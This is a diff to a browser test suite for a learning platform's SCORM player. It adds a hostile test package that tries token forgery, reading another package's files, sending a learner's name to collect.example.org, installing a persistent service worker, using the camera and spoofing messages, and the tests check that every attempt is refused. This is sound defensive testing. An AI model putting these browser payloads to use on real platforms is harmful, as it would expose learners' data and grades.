@@ -13,6 +13,7 @@ from lms.learning.models import Attempt, Progress
 from lms.learning.services import open_attempt
 from lms.learning.tokens import package_url
 from tests.browser.live import serve
+from tests.browser.package_visit import PackageVisit, make_room
 from tests.factories.courses import LESSON_2004, MANIFEST_2004, course_with_package, scorm_zip
 from tests.factories.learning import enrol, make_class, make_learner
 
@@ -21,6 +22,7 @@ pytestmark = pytest.mark.browser
 HOSTILE = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Enemy</title></head><body>
 <h1>Enemy</h1><pre id="found"></pre><script>
 let api = null; for (let w = window; w && !api; w = w.parent === w ? null : w.parent) { try { api = w.API || null; } catch { break; } }
+const run = () => JSON.parse(parent.document.getElementById("run").textContent);
 const app = new URL(document.referrer || "http://127.0.0.1").origin;
 async function attempt(name, act) {
   try { found[name] = await act(); } catch (error) { found[name] = "refused: " + error.name; }
@@ -41,14 +43,23 @@ async function attack(targets) {
   await attempt("form to the application", () => { const f = document.createElement("form"); f.method = "post"; f.action = targets.app + targets.act; f.target = "nowhere"; document.body.append(f); f.submit(); return "sent"; });
   await attempt("token of another package", () => fetch(targets.other).then((r) => r.status));
   await attempt("token of another package, here", () => fetch(new URL(targets.other).pathname).then((r) => r.status));
-  await attempt("attempt of another learner", () => post(new URL(targets.learner).pathname.replace("/frame", "/commit"), { sco: "item-1", launch: 1, data: { "cmi.core.lesson_status": "passed" } }).then((r) => r.status));
+  await attempt("attempt of another learner", () => post(new URL(targets.learner).pathname.replace("/frame", "/commit"), { sco: "item-1", launch: 1, sequence: 1, visit: 1, data: { "cmi.core.lesson_status": "passed" } }).then((r) => r.status));
+  await attempt("token of another learner, as one's own", () => { const token = (path) => path.split("/")[2]; const mine = token(run().commit), theirs = token(new URL(targets.learner).pathname); return post(`/t/${mine.slice(0, mine.lastIndexOf("."))}.${theirs.slice(theirs.lastIndexOf(".") + 1)}/commit`, {}).then((r) => r.status); });
   await attempt("forged token", () => post("/t/" + "x".repeat(80) + "/commit", {}).then((r) => r.status));
   await attempt("score out of bounds", () => { api.LMSInitialize(""); const kept = api.LMSSetValue("cmi.core.score.raw", "4000"); return kept + " " + api.LMSGetLastError(); });
   await attempt("score out of bounds, by hand", async () => {
-    const run = JSON.parse(parent.document.getElementById("run").textContent);
-    const answer = await post(run.commit, { sco: "item-1", launch: run.launch, data: { "cmi.core.score.raw": "4000", "cmi.core.session_time": "9999:00:00", "cmi.core.lesson_status": "incomplete" } });
+    const opened = await (await post(run().open, {})).json();
+    const answer = await post(run().commit, { sco: "item-1", launch: opened.launch, sequence: 1, visit: 1, data: { "cmi.core.score.raw": "4000", "cmi.core.session_time": "9999:00:00", "cmi.core.lesson_status": "incomplete" } });
     return (await answer.json()).refused.join();
   });
+  await attempt("another package's file", () => fetch(targets.file).then((r) => r.status));
+  await attempt("another package's page in a frame", () => new Promise((done) => { const f = document.createElement("iframe"); f.onload = () => { try { done(f.contentDocument.body ? "read" : "empty"); } catch (error) { done("refused: " + error.name); } }; f.src = targets.file; document.body.append(f); setTimeout(() => done("refused: nothing loaded"), 2000); }));
+  await attempt("data out to another site", () => fetch("https://collect.example.org/?name=" + encodeURIComponent(api.LMSGetValue("cmi.core.student_name"))).then(() => "sent"));
+  await attempt("new address from the page", () => new Promise((done) => { addEventListener("message", (event) => done("heard " + JSON.stringify(event.data))); parent.parent.postMessage({ from: "bouquet-package", state: "expired" }, "*"); setTimeout(() => done("silence"), 800); }));
+  await attempt("what a device keeps of others", () => new Promise((done) => { addEventListener("message", (event) => done("heard " + JSON.stringify(event.data))); parent.parent.postMessage({ from: "bouquet-package", state: "ask" }, "*"); setTimeout(() => done("silence"), 800); }));
+  await attempt("a worker that stays", () => navigator.serviceWorker.register("index.html").then(() => "stays"));
+  await attempt("camera", () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => "seen"));
+  await attempt("parent of the frame, by name", () => { parent.parent.location = "https://example.org/"; return "asked"; });
   await attempt("words to the page", () => { parent.parent.postMessage({ from: "bouquet-package", state: "<b>free text</b>" }, "*"); return "sent"; });
   await attempt("top of the window", () => { top.location = "https://example.org/"; return "asked"; });
   document.title = "done";
@@ -82,6 +93,7 @@ def room(live):
             )
             for name, (attempt, activity, person) in attempts.items()
         }
+        room.targets["file"] = room.targets["other"].replace("/frame", "/p/index.html")
         room.victim = attempts["learner"][0].id
     return room
 
@@ -151,8 +163,25 @@ def test_another_learners_attempt_is_not_changed(live, room, found):
         assert session.get(Attempt, room.victim).completion == "incomplete"
 
 
-def test_a_forged_token_is_refused(found):
-    assert found["forged token"] == 403
+@pytest.mark.parametrize("what", ["forged token", "token of another learner, as one's own"])
+def test_a_forged_token_is_refused(found, what):
+    assert found[what] == 403
+
+
+@pytest.mark.parametrize("what", ["another package's file", "another package's page in a frame"])
+def test_another_packages_files_cannot_be_read(found, what):
+    assert found[what].startswith("refused")
+
+
+def test_nothing_goes_out_to_another_site_and_nothing_stays_behind(found):
+    assert found["data out to another site"].startswith("refused")
+    assert found["a worker that stays"].startswith("refused")
+    assert found["camera"].startswith("refused")
+
+
+@pytest.mark.parametrize("what", ["new address from the page", "what a device keeps of others"])
+def test_the_page_answers_its_own_frame_only(found, what):
+    assert found[what] == "silence"
 
 
 def test_a_score_out_of_bounds_is_refused_by_the_run_time_and_by_the_server(live, room, found):
@@ -172,47 +201,27 @@ def test_the_window_stays_where_it_is_and_says_only_its_own_words(live, found):
 
 
 def test_a_lesson_is_saved_shown_as_saved_and_resumed(live, browser):
-    with live.house.sessions() as session, unscoped(session):
-        room = make_class(session, live.house, live.world.b, course_with_package(scorm_zip()))
-    page = browser.new_context().new_page()
-    live.sign_in(page, live.world.b.learner)
-    page.goto(live.url + room.url("module-scorm"))
-    page.frame_locator("iframe.player-frame").frame_locator("#lesson").locator("h1").wait_for()
-    lesson = next(one for one in page.frames if one.url.endswith("/p/index.html"))
-    lesson.evaluate("finish(85)")
-    page.locator("[data-package-state]", has_text=":").wait_for()
-    with live.house.sessions() as session, unscoped(session):
-        progress = session.scalars(select(Progress).where(Progress.enrolment_id == room.enrolment.id)).one()
-        assert (progress.status, progress.success, progress.score) == ("done", "passed", 0.85)
-    page.reload()
-    page.frame_locator("iframe.player-frame").frame_locator("#lesson").locator("h1").wait_for()
-    lesson = next(one for one in page.frames if one.url.endswith("/p/index.html"))
-    assert lesson.evaluate("api.LMSGetValue('cmi.suspend_data')") == "place=3"
-    page.context.close()
+    visit = PackageVisit(live, browser, make_room(live, scorm_zip(), "S-2", live.world.b)).open()
+    visit.lesson().evaluate("finish(85)")
+    visit.saved()
+    assert "Enregistré à" in visit.page.locator("[data-package-state]").text_content()
+    progress = visit.progress()
+    assert (progress.status, progress.success, progress.score) == ("done", "passed", 0.85)
+    visit.open()
+    assert visit.lesson().evaluate("api.LMSGetValue('cmi.suspend_data')") == "place=3"
+    visit.close()
 
 
 def test_a_2004_package_of_two_lessons_is_done_when_both_are(live, browser):
     package = scorm_zip({"index.html": LESSON_2004}, manifest=MANIFEST_2004)
-    with live.house.sessions() as session, unscoped(session):
-        room = make_class(session, live.house, live.world.b, course_with_package(package), reference="S-3")
-    page = browser.new_context().new_page()
-    live.sign_in(page, live.world.b.learner)
-    page.goto(live.url + room.url("module-scorm"))
-
-    def lesson():
-        page.frame_locator("iframe.player-frame").frame_locator("#lesson").locator("h1").wait_for()
-        return next(one for one in page.frames if "/p/index.html" in one.url)
-
-    def progress():
-        with live.house.sessions() as session, unscoped(session):
-            return session.scalars(select(Progress).where(Progress.enrolment_id == room.enrolment.id)).one()
-
-    assert lesson().evaluate("finish(0.6)") == ",".join(["true"] * 7)
-    assert progress().status == "started"
-    page.frame_locator("iframe.player-frame").locator("[data-sco='1']").click()
-    page.frame_locator("iframe.player-frame").locator("[data-sco='1'][aria-current]").wait_for()
-    assert lesson().evaluate("api.GetValue('cmi.suspend_data')") == ""
-    assert lesson().evaluate("finish(1)") == ",".join(["true"] * 7)
-    done = progress()
+    visit = PackageVisit(live, browser, make_room(live, package, "S-3", live.world.b)).open()
+    assert visit.lesson().evaluate("finish(0.6)") == ",".join(["true"] * 7)
+    visit.attempt(lambda one: "item-1" in one.state.get("scos", {}))
+    assert visit.progress().status == "started"
+    visit.choose("item-2")
+    assert visit.lesson().evaluate("api.GetValue('cmi.suspend_data')") == ""
+    assert visit.lesson().evaluate("finish(1)") == ",".join(["true"] * 7)
+    visit.attempt(lambda one: one.completion == "completed")
+    done = visit.progress()
     assert (done.status, done.success, done.score) == ("done", "passed", 0.8)
-    page.context.close()
+    visit.close()
